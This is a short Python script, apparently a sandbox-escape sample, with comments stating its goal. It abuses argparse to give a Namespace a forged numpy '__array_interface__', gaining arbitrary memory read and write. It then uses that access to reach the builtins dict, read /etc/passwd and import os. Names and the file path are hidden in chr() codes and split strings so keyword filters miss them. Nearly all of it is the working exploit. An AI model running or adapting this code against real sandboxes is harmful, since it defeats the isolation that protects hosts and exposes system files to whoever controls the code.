# source: argparse docs (a positional argument's dest is its name; parse_args setattr()s every dest on the Namespace) + numpy __array_interface__ protocol read on the instance (as numpy.lib.stride_tricks.DummyArray relies on); adapted from the cached_property.attrname / Action.dest variants
# family: names a library object keeps for a later setattr: a positional argument whose NAME is computed at run time becomes a runtime-named attribute of the Namespace parse_args() returns; numpy trusts the forged __array_interface__
# goal: arbitrary memory read/write -> builtins dict (func_builtins) -> open() reads /etc/passwd, __import__ -> os
import argparse
import numpy as np

u = chr(95) * 2
SPEC = {"data": (0, False), "shape": (1,), "typestr": "<u8", "version": 3}
parser = argparse.ArgumentParser()
parser.add_argument(u + "array" + chr(95) + "interface" + u, nargs="?", default=SPEC)
args = parser.parse_args([])


def mem(addr):
    SPEC["data"] = (addr, False)
    return np.asarray(args)


def rd(addr):
    return int(mem(addr)[0])


def wr(addr, val):
    mem(addr)[0] = val


def f():
    return 0


p = rd(id(f) + 24)
holder = [None]
items = rd(id(holder) + 24)
wr(p, rd(p) + 1)
wr(items, p)
b = holder[0]
print("builtins dict:", type(b), len(b))
path = "".join(chr(c) for c in [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100])
print(b["open"](path).read()[:120])
m = b[u + "import" + u]("o" + "s")
print(m, m.getuid())
